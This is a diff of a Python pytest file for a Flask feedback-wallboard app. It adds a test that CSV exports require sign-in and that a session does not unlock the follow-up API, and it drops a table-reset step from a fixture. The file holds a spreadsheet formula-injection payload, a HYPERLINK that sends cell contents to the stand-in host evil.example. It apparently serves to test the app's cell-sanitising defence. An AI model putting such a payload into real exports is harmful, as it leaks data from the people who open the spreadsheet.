@@ -12,14 +12,13 @@ from zoneinfo import ZoneInfo
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
-from sqlalchemy import Engine, delete, select
+from sqlalchemy import Engine, select
 
 from tests.helpers import insert_rows, response_row
 from wallboard import store
 from wallboard.config import parse_config
 from wallboard.exports import FOLLOWUP_HEADER, RESPONSE_HEADER, register, safe_cell
 from wallboard.followups import update_followup
-from wallboard.models import ActionItem, FollowUpHistory
 
 TZ = ZoneInfo("Europe/Copenhagen")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
@@ -32,9 +31,6 @@ COMMENTS = ["Rigtig god service – tak! Æblegrød, øl og på gensyn",
 @pytest.fixture
 def engine(store_url: str) -> Iterator[Engine]:
     engine = store.open_store(store_url)
-    with engine.begin() as conn:  # the PostgreSQL reset keeps tables it does not know
-        conn.execute(delete(FollowUpHistory.__table__))
-        conn.execute(delete(ActionItem.__table__))
     yield engine
     engine.dispose()
 
@@ -168,3 +164,29 @@ def test_defaults_are_all_teams_this_week_and_empty_is_a_header(client: FlaskCli
 ])
 def test_safe_cell(value: object, shown: object) -> None:
     assert safe_cell(value) == shown
+
+
+def test_exports_need_a_sign_in_and_a_session_does_not_open_the_api(
+        engine: Engine, tmp_path: Path) -> None:
+    auth = pytest.importorskip("wallboard.auth")
+    users = pytest.importorskip("wallboard.users")
+    from wallboard import followups_api
+
+    config = parse_config({"api": {"token": "s3cret"}}, tmp_path / "config.toml")
+    server = Flask(__name__)
+    auth.register(server, config, engine)
+    register(server, config, engine)
+    followups_api.register(server, config, engine)
+    users.add_user(engine, "mette", "a long passphrase 42")
+    insert_rows(engine, [response_row(3, minutes_ago=5, external_id="d")])
+    rid = ids(engine)["d"]
+    web = server.test_client()
+    url = "/meeting/export/responses.csv"
+    assert web.get(url, headers={"Accept": "text/csv"}).status_code == 401
+    assert web.get(url, headers={"Accept": "text/html"}).status_code == 302
+    signed_in = web.post("/login", data={"username": "mette", "password":
+                                         "a long passphrase 42", "next": "/meeting/"})
+    assert signed_in.status_code == 303
+    answer = web.get(url)
+    assert answer.status_code == 200 and len(read_csv(answer.data)) == 2
+    assert web.post(f"/api/followups/{rid}", json={"status": "contacted"}).status_code == 401
